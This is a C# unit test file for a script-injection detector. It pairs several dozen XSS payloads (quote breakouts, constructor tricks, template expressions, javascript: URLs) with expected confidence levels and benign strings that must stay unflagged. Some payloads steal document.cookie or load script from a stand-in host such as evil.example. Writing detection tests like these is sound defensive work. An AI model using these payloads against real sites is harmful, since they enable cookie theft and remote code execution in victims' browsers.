using System.Text;
using Palisade.Detection.Scripts;

namespace Palisade.Detection.Tests.Scripts;

public sealed class ScriptInjectionTests
{
    [Theory]
    [InlineData("';alert(1)//", Confidence.High, "single-quoted")]
    [InlineData("\"-alert(1)-\"", Confidence.High, "double-quoted")]
    [InlineData("`-alert(1)-`", Confidence.High, "template")]
    [InlineData("\\');confirm`1`//", Confidence.High, "single-quoted")]
    [InlineData("\\';alert(document.domain)//", Confidence.High, "single-quoted")]
    [InlineData("x'+alert(1)+'y", Confidence.High, "single-quoted")]
    [InlineData("abc\"};alert(1);var a={\"b\":\"", Confidence.High, "double-quoted")]
    [InlineData("');}});alert(1);(function(){a('", Confidence.High, "single-quoted")]
    [InlineData("'-eval(atob('YWxlcnQoMSk='))-'", Confidence.High, "single-quoted")]
    [InlineData("'+document.cookie+'", Confidence.High, "cookies")]
    [InlineData("';top['al'+'ert'](1)//", Confidence.High, "put together")]
    [InlineData("\";window[\"alert\"](1);//", Confidence.High, "calls a function of the browser")]
    [InlineData("';[].constructor.constructor('alert(1)')()//", Confidence.High, "constructor")]
    [InlineData("';[]['filter']['constructor']('alert(1)')()//", Confidence.High, "constructor")]
    [InlineData("';location='//evil.example'//", Confidence.High, "assigns")]
    [InlineData("';document.location.href=\"//e\"+document.cookie;'", Confidence.High, "assigns")]
    [InlineData("';onerror=alert;throw 1//", Confidence.High, "assigns")]
    [InlineData("'-[1].map(alert)-'", Confidence.High, "hands")]
    [InlineData("';a=alert,a(1)//", Confidence.High, "hands")]
    [InlineData("';fetch('//evil.example/?c='+document.cookie)//", Confidence.High, "calls")]
    [InlineData("';import('//evil.example/x.js')//", Confidence.High, "calls")]
    [InlineData("';new Image().src='//e/?'+document.cookie//", Confidence.High, "cookies")]
    [InlineData("';(alert)(1)//", Confidence.High, "calls")]
    [InlineData("';window.alert?.(1)//", Confidence.High, "calls")]
    [InlineData("'\nalert(1)\n'", Confidence.High, "calls")]
    [InlineData("';if(1)alert(1)//", Confidence.High, "calls")]
    [InlineData("';{alert(1)}//", Confidence.High, "calls")]
    [InlineData("';(()=>{alert(1)})()//", Confidence.High, "calls")]
    [InlineData("';setTimeout('alert(1)',1)//", Confidence.High, "calls")]
    [InlineData("';document.write('<img src=x>')//", Confidence.High, "calls")]
    [InlineData("';document.body.innerHTML=location.hash//", Confidence.High, "assigns")]
    [InlineData("';$.getScript('//e')//", Confidence.High, "calls")]
    [InlineData("';print()//", Confidence.Medium, "calls a function")]
    [InlineData("';foo()//", Confidence.Medium, "calls a function")]
    [InlineData("${alert(1)}", Confidence.High, "template literal")]
    [InlineData("{{constructor.constructor('alert(1)')()}}", Confidence.High, "template of the browser")]
    [InlineData("{{$eval.constructor('alert(1)')()}}", Confidence.High, "template of the browser")]
    [InlineData("javascript:alert(1)", Confidence.High, "URL")]
    [InlineData("JaVaScRiPt:eval(name)", Confidence.High, "URL")]
    [InlineData(";alert(1)//", Confidence.High, "as it stands")]
    [InlineData("-alert(1)-", Confidence.High, "as it stands")]
    [InlineData("1;alert(1)", Confidence.High, "as it stands")]
    [InlineData("1);alert(1);//", Confidence.High, "as it stands")]
    [InlineData(")};alert(1);//", Confidence.High, "as it stands")]
    [InlineData("foo;alert(1)//", Confidence.High, "as it stands")]
    [InlineData("alert(1)", Confidence.Medium, "as it stands")]
    [InlineData("eval(location.hash.slice(1))", Confidence.Medium, "as it stands")]
    [InlineData("top[/al/.source+/ert/.source](1)", Confidence.Medium, "put together")]
    [InlineData("onerror=alert;throw 1", Confidence.Medium, "assigns")]
    [InlineData("document.location='//e'", Confidence.Medium, "assigns")]
    [InlineData("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", Confidence.High, "brackets")]
    public void Script_is_found_with_its_place_and_effect(string value, Confidence confidence, string reason)
    {
        var finding = ScriptInjection.Detect(Encoding.UTF8.GetBytes(value));

        Assert.NotNull(finding);
        Assert.Equal(confidence, finding.Confidence);
        Assert.Contains(reason, finding.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("")]
    [InlineData("don't alert (1) anybody")]
    [InlineData("John's 'alert' (red) button")]
    [InlineData("the '-' and '+' keys")]
    [InlineData("jQuery's $('#id').hide() hides an element")]
    [InlineData("location=Berlin")]
    [InlineData("city=Rome;location=Berlin")]
    [InlineData("a=b;onload=5")]
    [InlineData("{\"alert\":\"x(1)\"}")]
    [InlineData("https://example.com/alert(1)")]
    [InlineData("JavaScript: the good parts (2nd edition)")]
    [InlineData("f(x) = x + 1")]
    [InlineData("x = y['key'];")]
    [InlineData("const sum = (a, b) => a + b;")]
    [InlineData("console.log(\"hello\");")]
    [InlineData("print('x')")]
    [InlineData("'a','b','c'")]
    [InlineData("\"a\";\"b\"")]
    [InlineData("name='x'; value='y'")]
    [InlineData("the workers' (plural) form")]
    [InlineData("5' (five feet) tall")]
    [InlineData("type=alert,level=5")]
    public void Ordinary_text_is_clean(string value) => Assert.Null(ScriptInjection.Detect(Encoding.UTF8.GetBytes(value)));
}
